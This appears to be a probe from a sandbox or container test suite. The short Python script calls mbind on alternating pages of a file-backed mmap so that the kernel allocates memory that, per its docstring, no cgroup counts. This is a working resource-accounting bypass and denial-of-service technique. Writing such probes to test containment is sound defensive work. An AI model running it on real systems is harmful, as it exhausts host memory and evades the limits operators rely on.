"""Keeps memory of the kernel's, which no cgroup counts, as a place for each of a file's pages that are not there."""

import ctypes
import mmap

from attack import attempt, call

BIND = 2
PAGES = 2048


def place() -> str:
    with open("/tmp/pages", "w+b") as file:
        file.truncate(PAGES * mmap.PAGESIZE)
        with mmap.mmap(file.fileno(), 0) as pages:
            first = ctypes.addressof(ctypes.c_char.from_buffer(pages))
            nodes = ctypes.byref(ctypes.c_ulong(1))
            for page in range(0, PAGES, 2):
                call("mbind", first + page * mmap.PAGESIZE, mmap.PAGESIZE, BIND, nodes, 64, 0)
            return f"{PAGES // 2} places kept"


attempt(place)
